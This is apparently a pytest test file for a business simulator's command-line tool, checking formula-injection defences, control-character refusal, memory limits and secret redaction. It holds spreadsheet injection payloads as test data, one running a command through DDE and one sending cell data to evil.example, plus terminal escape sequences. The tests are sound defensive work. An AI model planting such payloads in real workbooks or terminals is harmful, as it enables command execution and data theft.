"""Issue 28 (reliability v3): the hostile cases outside the record readers, each with a
negative control."""

from __future__ import annotations

import numpy as np
import pytest

from simulator.cli import main
from simulator.config import load_config

ROOT = __import__("pathlib").Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def records(tmp_path_factory):
    from simulator.fit.synthetic import history, write_csv

    folder = tmp_path_factory.mktemp("records")
    return write_csv(history(np.random.default_rng(2026), months=24), folder)


# 4. fit without --clients


def test_fit_without_clients_writes_a_config_that_loads(records, tmp_path, capsys):
    args = ["fit", "--pipeline", str(records["pipeline"]), "--tickets",
            str(records["tickets"]), "--pnl", str(records["pnl"]), "--owner", "Owner"]
    assert main([*args, "--out", str(tmp_path / "mine.toml"),
                 "--report", str(tmp_path / "fit")]) == 0, capsys.readouterr().err
    text = (tmp_path / "mine.toml").read_text()
    assert "# book: not fitted (needs clients); the calibrated default (empty)" in text
    load_config(tmp_path / "mine.toml")
    assert (tmp_path / "fit" / "fit.json").exists()
    # never write before everything can be written: an --out that cannot be written
    # leaves no report behind
    (tmp_path / "afile").write_text("")
    rc = main([*args, "--out", str(tmp_path / "afile" / "mine.toml"),
               "--report", str(tmp_path / "fit2")])
    err = capsys.readouterr().err
    assert rc == 2 and "afile" in err and "internal error" not in err
    assert not (tmp_path / "fit2").exists()


# 6. formula injection: typed names are text in every workbook; control characters refused

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1",
            "-2+3", "@SUM(1)"]


def _formulas(path):
    """Every cell of a workbook written as a formula, read from the file's XML."""
    import zipfile

    with zipfile.ZipFile(path) as book:
        return [n for n in book.namelist() if n.startswith("xl/worksheets/")
                and (b"<f>" in book.read(n) or b"<f " in book.read(n))]


def test_scenario_names_are_text_in_the_workbook(tmp_path, capsys):
    import openpyxl

    base = ROOT / "configs" / "baseline.toml"
    scenarios = tmp_path / "s.toml"
    scenarios.write_text(f'base = "{base}"\n' + "".join(
        f'[[scenario]]\nname = """{name}"""\nset = {{ "sales.reps" = {k + 1} }}\n'
        for k, name in enumerate(PAYLOADS[:3])))
    assert main(["compare", str(scenarios), "--paths", "100", "--months", "12", "--out",
                 str(tmp_path / "c"), f"--name={PAYLOADS[0]}", f"--name={PAYLOADS[3]}",
                 f"--name={PAYLOADS[4]}"]) == 0, capsys.readouterr().err
    book = tmp_path / "c" / "results.xlsx"
    assert _formulas(book) == []
    ws = openpyxl.load_workbook(book)["Scenarios"]
    names = [ws.cell(row=r, column=1) for r in range(2, 5)]
    assert [c.value for c in names] == [PAYLOADS[0], PAYLOADS[3], PAYLOADS[4]]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    assert ws.cell(row=2, column=2).data_type == "n"  # negative control: numbers stay numbers


def test_msp_names_are_text_and_control_characters_refused_up_front(tmp_path, capsys):
    import openpyxl

    from simulator.analysis.portfolio import load_portfolio, portfolio
    from simulator.report.portfolio import portfolio_workbook

    base = ROOT / "configs" / "baseline.toml"
    sheet = tmp_path / "p.csv"
    sheet.write_text("msp,sales.reps\n" + "".join(f'"{n.replace(chr(34), 2 * chr(34))}",'
                                                  f"{k + 1}\n" for k, n in
                                                  enumerate(PAYLOADS[:2])))
    result = portfolio(load_portfolio(sheet, base), n_paths=50)
    (tmp_path / "p.xlsx").write_bytes(portfolio_workbook(result))
    assert _formulas(tmp_path / "p.xlsx") == []
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx")["MSPs"]
    assert [ws.cell(row=r, column=1).value for r in (2, 3)] == PAYLOADS[:2]
    sheet.write_text("msp,sales.reps\nAcme\x1b[2J,2\n")
    rc = main(["portfolio", str(sheet), "--base", str(base), "--paths", "50", "--out",
               str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert rc == 2 and "row 2, column msp" in err and "\\x1b[2J" in err and "\x1b" not in err
    assert "simulating" not in err and not (tmp_path / "out").exists()


def test_control_characters_in_names_and_flags_are_refused_before_the_run(tmp_path, capsys):
    base = ROOT / "configs" / "baseline.toml"
    config = tmp_path / "c.toml"
    config.write_text(base.read_text() + '\n[[levers.add]]\nname = "bad\\u0007"\n'
                      'set = { "sales.reps" = 3 }\n')
    rc = main(["run", str(config), "--paths", "50", "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err
    assert rc == 2 and "\\x07" in err and "\x07" not in err and "Traceback" not in err
    rc = main(["run", str(base), "--paths", "50", "--title", "t\x1b]0;pwned\x07",
               "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err
    assert rc == 2 and "--title" in err and "\x1b" not in err
    assert not (tmp_path / "o").exists()


# 10. bounded: the memory estimates and limits


def test_memory_limit_takes_units_and_refuses_what_it_cannot_read(monkeypatch):
    from simulator.config import ConfigError
    from simulator.memory import memory_limit, parse_bytes

    assert parse_bytes("8GiB") == 8 * 1024**3
    assert parse_bytes("8G") == parse_bytes("8 GB") == parse_bytes("8gb") == 8_000_000_000
    assert parse_bytes("1.5MiB") == int(1.5 * 1024**2) and parse_bytes("512") == 512
    monkeypatch.setenv("MSP_SIM_MEMORY_LIMIT", "8GiB")
    assert memory_limit() == 8 * 1024**3  # was silently ignored
    for bad in ("lots", "8 GiBs", "-1G", "8iB", "G"):
        monkeypatch.setenv("MSP_SIM_MEMORY_LIMIT", bad)
        with pytest.raises(ConfigError, match="MSP_SIM_MEMORY_LIMIT.*allowed: bytes"):
            memory_limit()


def test_compare_estimate_counts_one_run_at_a_time():
    from simulator.analysis.compare import compare_bytes
    from simulator.memory import result_bytes, run_bytes

    one = run_bytes(1_000_000, 60, False)
    # eight scenarios run one after another: one run's buffers, eight results (the old
    # estimate, eight runs' buffers at once, was 8 * one); each result with its five
    # streamed columns (MRR, cash, cumulative profit, enterprise and owner value: 40
    # bytes a path, 16 before the values were streamed, so 3x and no longer 2.5x)
    assert one < compare_bytes(8, 1_000_000, 60) < 3 * one
    # and each scenario more adds one result and its columns, not a run's buffers
    assert (compare_bytes(8, 1_000_000, 60) - compare_bytes(7, 1_000_000, 60)
            == result_bytes(1_000_000, 60) + 40 * 1_000_000)
    # negative control: kept trajectories are all held at once
    assert compare_bytes(2, 50_000, 60) == 2 * run_bytes(50_000, 60, True)


def test_portfolio_levers_are_in_the_memory_estimate(tmp_path, monkeypatch, capsys):
    base = ROOT / "configs" / "baseline.toml"
    sheet = tmp_path / "p.csv"
    sheet.write_text("msp,sales.reps\nA,2\nB,3\n")
    (tmp_path / "afile").write_text("")  # an --out that stops the command after the check
    monkeypatch.setenv("MSP_SIM_MEMORY_LIMIT", "2GB")
    args = ["portfolio", str(sheet), "--base", str(base), "--paths", "200000", "--out",
            str(tmp_path / "afile")]
    assert main([*args, "--levers"]) == 2
    err = capsys.readouterr().err
    assert "lever scans" in err and "more than the 2.0 GB" in err and "no --levers" in err
    assert main(args) == 2  # negative control: without the scan it fits (the --out stops it)
    err = capsys.readouterr().err
    assert "memory" not in err and "afile" in err


def test_more_local_workers_than_cores_is_refused():
    pytest.importorskip("distributed")
    import os

    from simulator.config import ConfigError
    from simulator.runner.dask import connect

    cores = len(os.sched_getaffinity(0))
    with pytest.raises(ConfigError, match=f"512 worker processes on {cores} cores; allowed: "
                                          f"local:N with 1 <= N <= {cores}"):
        connect("local:512")


# 11. messages: no terminal escapes, no secrets, one line for Dask mistakes


def test_escape_sequences_from_files_and_set_never_reach_the_terminal(tmp_path, capsys):
    base = ROOT / "configs" / "baseline.toml"
    bad = tmp_path / "bad.toml"
    bad.write_bytes(b"[sales]\nreps = \x1b[2J\x1b]0;owned\x07\n")
    assert main(["validate", str(bad)]) == 2
    assert main(["validate", str(base), "--set", "sales.reps=\x1b[31m"]) == 2
    assert main(["validate", str(base), "--set", 'simulation.start_date="\\u001b[2J"']) == 2
    captured = capsys.readouterr()
    assert "\x1b" not in captured.err + captured.out and "\x07" not in captured.err
    assert captured.err.count("\\x1b") >= 3 and captured.err.count("error:") == 3
    assert main(["validate", str(base)]) == 0  # negative control


def test_a_toml_named_by_a_scenario_or_portfolio_file_is_not_echoed(tmp_path, capsys):
    secrets = tmp_path / "secrets.toml"
    secrets.write_text('[aws]\nsecret_key = "AKIA-SECRET"\nretries = 3\n')
    scenarios = tmp_path / "s.toml"
    scenarios.write_text('[[scenario]]\nname = "a"\nconfig = "secrets.toml"\n'
                         '[[scenario]]\nname = "b"\nconfig = "secrets.toml"\n'
                         'token = "TOKEN-SECRET"\n')
    sheet = tmp_path / "p.csv"  # and one named by a portfolio file
    sheet.write_text("msp,config\nA,secrets.toml\nB,secrets.toml\n")
    base = str(ROOT / "configs" / "baseline.toml")
    for args in (["compare", str(scenarios), "--out", str(tmp_path / "o")],
                 ["portfolio", str(sheet), "--base", base, "--out", str(tmp_path / "o")],
                 ["validate", str(secrets)]):
        assert main(args) == 2
        err = capsys.readouterr().err
        assert "SECRET" not in err and "unknown" in err, err
    assert 'aws = {secret_key = "...", retries = 3}' in err  # the structure, no text


def test_dask_address_typos_and_a_dead_scheduler_are_one_line(tmp_path, capsys):
    pytest.importorskip("distributed")
    from simulator.config import ConfigError
    from simulator.explorer.app import free_port
    from simulator.runner.dask import connect

    base = str(ROOT / "configs" / "baseline.toml")
    for address, words in (("tcp://127.0.0.1", "not a scheduler address"),
                           ("tcp://host:99999", "not a scheduler address"),
                           ("tcp:/127.0.0.1:8786", "allowed: local:N or tcp://HOST:PORT"),
                           ("tcp://[::1:8786", "not a scheduler address")):
        rc = main(["run", base, "--paths", "10", "--scheduler", address, "--out",
                   str(tmp_path / "o")])
        err = capsys.readouterr().err
        assert rc == 2 and words in err and err.count("\n") == 1, (address, err)
        assert "internal error" not in err and "Traceback" not in err
    dead = f"tcp://127.0.0.1:{free_port()}"  # nothing listens there
    with pytest.raises(ConfigError, match="cannot reach the scheduler at tcp://127.0.0.1"):
        connect(dead, timeout=1)


def test_backtest_does_not_score_months_before_a_files_history(records):
    from simulator.fit import read_records
    from simulator.fit.backtest import backtest

    data = read_records(**records, owner="Owner")
    data.pop("sources", None)
    whole = backtest(**data, holdout=6, n_paths=200, owner="Owner")
    months = whole.series["tickets"]["months"]
    assert len(months) == 6  # negative control: every holdout month is in the history
    late = [t for t in data["tickets"] if t.created.isoformat()[:7] >= months[3]]
    cut = backtest(**{**data, "tickets": late}, holdout=6, n_paths=200, owner="Owner")
    s = cut.series["tickets"]
    assert s["months"] == months[3:] and s["month_after_cutoff"] == [4, 5, 6]
    assert s["actual"] == whole.series["tickets"]["actual"][3:]
    assert cut.series["mrr_managed"]["months"] == months  # the clients' history is whole
    assert any("of 3 months" in line for line in cut.lines())


def test_fit_writes_a_loadable_config_whatever_the_client_names(records, tmp_path, capsys):
    clients = tmp_path / "clients.csv"
    lines = records["clients"].read_text().splitlines()
    active = next(i for i, line in enumerate(lines) if line.split(",")[2] == "")
    lines[active] = "Acme\x07\x1b[2J" + lines[active][lines[active].index(","):]
    clients.write_text("\n".join(lines) + "\n")
    assert main(["fit", "--clients", str(clients), "--out", str(tmp_path / "m.toml"),
                 "--report", str(tmp_path / "r")]) == 0, capsys.readouterr().err
    text = (tmp_path / "m.toml").read_text()
    assert "\x1b" not in text and "\x07" not in text and "Acme\\\\x07\\\\x1b[2J" in text
    load_config(tmp_path / "m.toml")
    assert "\x1b" not in capsys.readouterr().out
